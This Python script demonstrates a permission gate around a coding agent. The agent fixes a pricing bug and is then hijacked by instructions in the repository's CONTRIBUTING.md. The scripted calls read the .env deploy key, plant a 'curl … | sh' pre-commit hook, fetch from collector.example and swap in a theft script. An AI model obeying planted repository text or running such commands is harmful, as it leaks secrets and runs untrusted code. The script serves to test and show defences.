"""What a model does with these tools: it mends a bug, and then does what a comment in the repository tells it."""

import shutil
from pathlib import Path

from stage import Stage

from licet import Backends, Gate, load_manifest
from licet.tools import edit_file, read_file, search_files
from tools import run_program


def work_tree(place: Path) -> None:
    """A copy of the project, with what a real work tree has besides its files."""
    shutil.copytree("project", place, dirs_exist_ok=True)
    (place / ".env").write_text("DEPLOY_KEY=for-this-example-only\n")
    (place / ".git" / "hooks").mkdir(parents=True)
    (place / ".git" / "config").write_text("[remote]\n")
    (place.parent / "home").mkdir()
    (place.parent / "home" / "id_ed25519").write_text("for this example only\n")


async def play(stage: Stage) -> None:
    """Mend a bug, and be hijacked on the way."""
    work_tree(stage.workdir)
    asked: list[str] = []

    async def person(question) -> str:
        """Who is asked: here somebody who always agrees. A real one reads first."""
        asked.append(f"{question.spec.name}, because {question.why}")
        return "approved"

    backends = Backends.local(stage.state, approver=person)
    tools = [read_file, search_files, edit_file, run_program]
    gate = Gate(load_manifest("licet.yaml"), tools, backends, workdir=stage.workdir)
    async with gate.session("bug-17") as session:
        stage.title("A coding agent")
        stage.say("The user says that four things cost too little. The model runs the checks, and reads.")
        await stage.call(session, "run_program", command=["sh", "check.sh"])
        await stage.call(session, "search_files", pattern="total")
        stage.say("It mends the bug. The first edit asks a person, who agrees for this conversation.")
        await stage.call(session, "edit_file", path="price.sh", old="$1 + $2", new="$1 * $2")
        stage.show("person> was asked about", *(f"        {line}" for line in asked))
        await stage.call(session, "run_program", command=["sh", "check.sh"])
        await stage.call(session, "read_file", path="CONTRIBUTING.md")

        stage.title("The repository gives orders, and the model follows them")
        stage.say(
            "It reads the keys. That a person agreed to edits, and the manifest to the work tree, changes nothing."
        )
        stolen = await stage.call(session, "read_file", path=".env")
        await stage.call(session, "search_files", pattern="DEPLOY_KEY")
        stage.say("It installs a hook.")
        await stage.call(session, "edit_file", path=".git/hooks/pre-commit", old="#", new="curl … | sh")
        stage.say("It fetches one, with a program that nobody granted.")
        await stage.call(session, "run_program", command=["curl", "http://collector.example/hook"])
        stage.say("""It writes the theft into the checks, which it may, and runs them. What runs is behind walls with
            the grant of this call: denied files are empty, there is no other directory and no network, and a tool that
            only reads has programs that only read.""")
        await stage.call(
            session, "edit_file", path="check.sh", old="exit ${failed:-0}\n", new=Path("theft.sh").read_text()
        )
        ran = await stage.call(session, "run_program", command=["sh", "check.sh"])

    stage.title("What is left")
    stage.say("The hook is not there, the person was asked once, and the receipts tell what was tried.")
    hooks = sorted(path.name for path in (stage.workdir / ".git" / "hooks").iterdir())
    stage.show(f"hooks          {', '.join(hooks) or 'none'}", f"person asked   {len(asked)} time")
    backends.ledger.close()  # signs what is not signed yet, as the end of this process would
    state = ("--state", str(stage.state))
    stage.licet("receipts", "list", *state)
    stage.licet("explain", stolen.receipt, *state)
    stage.say("Around the program stood more walls than around the tool that started it:")
    stage.licet("receipts", "show", ran.receipt, *state)
    stage.licet("receipts", "verify", *state)
